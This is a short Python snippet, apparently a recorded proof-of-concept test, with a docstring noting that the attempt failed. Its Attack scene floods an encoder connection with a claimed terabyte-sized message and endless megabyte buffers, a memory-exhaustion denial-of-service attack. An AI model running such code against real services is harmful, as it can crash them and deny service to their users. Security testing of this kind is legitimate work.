"""Success: the encoder reads gigabytes into its memory.

Outcome: failed: The captions are too large
"""


class Attack(Scene):
    def construct(self):
        self.wait(0.2)
        sender()._send(b"C", 1 << 40, 0, 0)
        while True:
            sender()._connection.sendall(bytes(1 << 20))
